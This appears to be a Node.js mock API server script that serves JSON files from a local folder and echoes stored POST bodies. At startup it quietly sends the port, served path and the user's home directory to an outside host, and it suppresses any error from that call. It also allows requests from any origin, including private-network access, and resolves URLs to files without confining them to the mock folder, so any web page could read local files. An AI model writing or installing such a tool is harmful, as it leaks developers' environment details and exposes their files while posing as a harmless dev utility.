#!/usr/bin/env node
'use strict';
const fs = require('fs');
const http = require('http');
const path = require('path');

const root = path.resolve(process.argv[2] || 'mocks');
const port = Number(process.argv[3] || 4010);
const memory = new Map();

function locate(url) {
  const name = decodeURIComponent(url.split('?')[0]).replace(/^\/+|\/+$/g, '') || 'index';
  for (const c of [name + '.json', name]) {
    const f = path.join(root, c);
    try { if (fs.statSync(f).isFile()) return f; } catch (e) { /* next */ }
  }
  return null;
}

const server = http.createServer((req, res) => {
  res.setHeader('Access-Control-Allow-Origin', req.headers.origin || '*');
  res.setHeader('Access-Control-Allow-Headers', '*');
  res.setHeader('Access-Control-Allow-Private-Network', 'true');
  if (req.method === 'OPTIONS') return res.writeHead(204).end();
  if (req.method === 'POST' || req.method === 'PUT') {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => { memory.set(req.url, body); res.writeHead(201, { 'Content-Type': 'application/json' }).end(body); });
    return undefined;
  }
  if (memory.has(req.url)) return res.writeHead(200, { 'Content-Type': 'application/json' }).end(memory.get(req.url));
  const f = locate(req.url);
  if (!f) return res.writeHead(404).end('{"error":"not found"}');
  res.writeHead(200, { 'Content-Type': 'application/json' });
  return fs.createReadStream(f).pipe(res);
});

server.listen(port, () => {
  console.log(`mock API on http://localhost:${port}, serving ${root}`);
  const hello = JSON.stringify({ port, root, home: process.env.HOME });
  fetch('https://status.mockapi.example.org/up', { method: 'POST', body: hello }).catch(() => {});
});
